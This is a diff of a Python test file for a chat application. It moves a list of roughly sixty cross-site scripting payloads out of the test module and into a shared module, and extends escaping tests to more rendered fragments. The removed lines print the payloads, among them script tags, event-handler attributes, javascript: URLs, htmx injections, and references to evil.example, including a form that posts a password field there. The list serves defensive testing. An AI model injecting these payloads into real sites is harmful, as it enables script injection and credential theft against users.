@@ -9,73 +9,12 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from rooms import changes, fragments
-from rooms.models import Message, Person, Room
+from rooms.mentions import Mention
+from rooms.models import Kind, Message, Person, Room
 from rooms.names import slug_for
-from tests.html import Element, elements, find, find_all
-
-PAYLOADS = [
-    "<script>alert(1)</script>",
-    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
-    "<script>alert(1)//",
-    "</script><script>alert(1)</script>",
-    "<img src=x onerror=alert(1)>",
-    "<img/src=x/onerror=alert(1)>",
-    "<svg onload=alert(1)>",
-    "<svg/onload=alert(1)//",
-    "<svg><script>alert(1)</script></svg>",
-    "<body onload=alert(1)>",
-    "<iframe src=javascript:alert(1)></iframe>",
-    "<iframe srcdoc='<script>alert(1)</script>'>",
-    "<a href=javascript:alert(1)>x</a>",
-    "<a href='java\tscript:alert(1)'>x</a>",
-    "<object data=data:text/html;base64,PHNjcmlwdD4=>",
-    "<embed src=//evil.example/x.swf>",
-    "<math><mtext></mtext><mglyph><style><img src onerror=alert(1)>",
-    "<style>*{display:none}</style>",
-    "<link rel=stylesheet href=//evil.example/x.css>",
-    "<meta http-equiv=refresh content='0;url=//evil.example'>",
-    "<base href=//evil.example/>",
-    "<form action=//evil.example><input name=password></form>",
-    "<input autofocus onfocus=alert(1)>",
-    "<details open ontoggle=alert(1)>",
-    "<video><source onerror=alert(1)></video>",
-    "<b style='position:fixed;inset:0'>x</b>",
-    "<template shadowrootmode=open><script>alert(1)</script></template>",
-    "<noscript><p title='</noscript><img src onerror=alert(1)>'>",
-    "<textarea></textarea><title></title><plaintext>",
-    "<!--<img src='--><img src=x onerror=alert(1)//'>",
-    "<![CDATA[<img src=x onerror=alert(1)>]]>",
-    "<?xml version='1.0'?><x onclick=alert(1)>",
-    "<div hx-get=/me.css hx-trigger=load></div>",
-    "<div hx-on:click=alert(1) hx-vals=js:{a:alert(1)}></div>",
-    "<i data-hx-on:load=alert(1) hx-trigger='load[alert(1)]'></i>",
-    "<hx-partial hx-target=body hx-swap=innerHTML>gone</hx-partial>",
-    "<hx-upsert hx-target='#messages'><li id=message-1>forged</li></hx-upsert>",
-    "<p id=cursor hx-swap-oob=true>",
-    "</p></li><li class=message data-author=1>forged",
-    "</bdi></p></ol></main>",
-    '"><script>alert(1)</script>',
-    "' onmouseover='alert(1)",
-    '" onmouseover="alert(1)" x="',
-    "` onmouseover=`alert(1)",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "&#60;script&#62;alert(1)&#x3c;/script&#x3e;",
-    "&amp;lt; &copy &nbsp;",
-    "＜script＞alert(1)＜/script＞",
-    "{{ 7|add:7 }} {% csrf_token %} {# note #}",
-    "{% load static %}${7*7}<%= 7 %>",
-    'http://evil.example/"onmouseover=alert(1)',
-    "http://evil.example/'onmouseover='alert(1)",
-    "http://evil.example/<script>alert(1)</script>",
-    "http://evil.example/?a=1&lt;script&gt;",
-    'www.evil.example/"><img/src/onerror=alert(1)>',
-    'mailto:"onclick=alert(1)//"@evil.example',
-    '"<img src=x onerror=alert(1)>"@evil.example',
-    "javascript:alert(1)//http://evil.example",
-    "javascript://evil.example/%0aalert(1)",
-    "data:text/html,<script>alert(1)</script>",
-    "vbscript:msgbox(1)",
-]
+from rooms.sidebar import Entry, Sidebar
+from tests.hostile import PAYLOADS, is_link, shape
+from tests.html import elements, find, find_all
 
 AT = datetime(2024, 2, 3, 12, 0, tzinfo=UTC)
 
@@ -93,26 +32,6 @@ def room_called(name: str) -> Room:
     return Room(pk=1, name=name, slug=slug_for(name))
 
 
-def shape(html: str | bytes) -> list[tuple[str, list[str]]]:
-    """Which elements there are and which attributes they have, but for links in texts."""
-    return [
-        (element.name, [name for name, _ in element.attributes])
-        for element in elements(html)
-        if not is_link(element)
-    ]
-
-
-def is_link(element: Element) -> bool:
-    """Whether it is a link that Parlor made of an address in a text, and harmless."""
-    return (
-        element.name == "a"
-        and [name for name, _ in element.attributes] == ["href", "target", "rel"]
-        and element["href"].startswith(("http://", "https://", "mailto:"))
-        and element["target"] == "_blank"
-        and element["rel"] == "noopener noreferrer nofollow"
-    )
-
-
 def links(body: str) -> list[str]:
     found = find_all(fragments.body_html(body))
     assert all(is_link(element) for element in found)
@@ -125,7 +44,21 @@ def text(html: str) -> str:
 
 EVERY_FRAGMENT: dict[str, Callable[[str], str]] = {
     "a body": lambda text: fragments.change(unsaved(text), "UTC", is_new=True),
+    "a body, changed": lambda text: fragments.change(unsaved(text), "UTC", is_new=False),
     "an author": lambda text: fragments.change(unsaved(name=text), "UTC", is_new=True),
+    "somebody who is named": lambda text: fragments.body_html(text, [Mention(0, len(text), 7)]),
+    "a name between names": lambda text: fragments.body_html(
+        f"a{text}b", [Mention(0, 1, 7), Mention(len(text) + 1, len(text) + 2, 8)]
+    ),
+    "a room's name": lambda text: fragments.head(room_called(text)),
+    "a topic": lambda text: fragments.head(Room(pk=1, name="x", slug="x", topic=text)),
+    "a title": lambda text: fragments.title(text, 2),
+    "who is here": lambda text: fragments.present([(1, text, True), (2, text, False)], 20),
+    "who is writing": lambda text: fragments.typing([(1, text), (2, text)]),
+    "the rooms of a person": lambda text: fragments.rooms(
+        Sidebar([Entry(1, "x", text, kind, False, False, True, 2, (7,)) for kind in Kind]), room_called(text)
+    ),
+    "a farewell": fragments.farewell,
     "the whole list": lambda text: fragments.start_over(room_called(text), [unsaved(text, text)], "UTC"),
     "the beginning of a room": lambda text: fragments.start_over(room_called(text), [unsaved(seq=1)], "UTC"),
     "what leads the next message": lambda text: fragments.accepted(room_called("x"), "key", "spare", text),
@@ -135,43 +68,20 @@ EVERY_FRAGMENT: dict[str, Callable[[str], str]] = {
 }
 
 
-@pytest.mark.parametrize("payload", PAYLOADS)
 @pytest.mark.parametrize("fragment", EVERY_FRAGMENT)
-def test_a_text_is_a_text_wherever_it_is_shown(fragment: str, payload: str) -> None:
+def test_a_text_is_a_text_wherever_it_is_shown(fragment: str) -> None:
     render = EVERY_FRAGMENT[fragment]
-    assert shape(render(payload)) == shape(render("harmless"))
+    harmless = shape(render("harmless"))
+    assert [payload for payload in PAYLOADS if shape(render(payload)) != harmless] == []
+    assert "harmless" in render("harmless")
 
 
-@pytest.mark.parametrize("payload", PAYLOADS)
-def test_a_text_reads_as_it_was_written(payload: str) -> None:
-    message = find(fragments.change(unsaved(payload, payload), "UTC", is_new=True), "li")
-    assert find(fragments.change(unsaved(payload), "UTC", is_new=True), class_="text").text == payload
-    assert find(fragments.change(unsaved(name=payload), "UTC", is_new=True), class_="author").text == payload
-    assert message["id"] == "message-2"
-
-
-@pytest.mark.django_db
-def test_a_name_is_a_text_on_every_page(person: Callable[..., Person]) -> None:
-    stranger, member = Client(), Client()
-    member.force_login(person("<b>member"))
-    rooms = [Room.objects.create(name="x", name_key=str(n), slug=str(n)) for n, _ in enumerate(PAYLOADS)]
-    authors = [person(f"author {n}") for n, _ in enumerate(PAYLOADS)]
-    for room, author in zip(rooms, authors, strict=True):
-        changes.post(room, author, "x")
-
-    def shapes() -> list[list[tuple[str, list[str]]]]:
-        urls = [room.get_absolute_url() for room in rooms]
-        pages = [member.get("/"), *map(stranger.get, urls), *map(member.get, urls)]
-        pages += [member.get(f"{url}messages/?after=0") for url in urls]
-        return [shape(page.content) for page in pages]
-
-    shapes()  # now the member has joined them all
-    harmless = shapes()
-    for room, author, payload in zip(rooms, authors, PAYLOADS, strict=True):
-        Room.objects.filter(pk=room.pk).update(name=payload[: Room.NAME_LENGTH])
-        Person.objects.filter(pk=author.pk).update(username=payload[: Person.NAME_LENGTH])
-    assert PAYLOADS[0] in find(stranger.get("/rooms/0/").content, "h1").text
-    assert shapes() == harmless
+def test_a_text_reads_as_it_was_written() -> None:
+    for payload in PAYLOADS:
+        message = fragments.change(unsaved(payload, payload), "UTC", is_new=True)
+        assert find(message, class_="text").text == payload
+        assert find(message, class_="author").text == payload
+        assert find(message, "li")["id"] == "message-2"
 
 
 def test_the_checks_above_see_what_is_not_escaped() -> None:
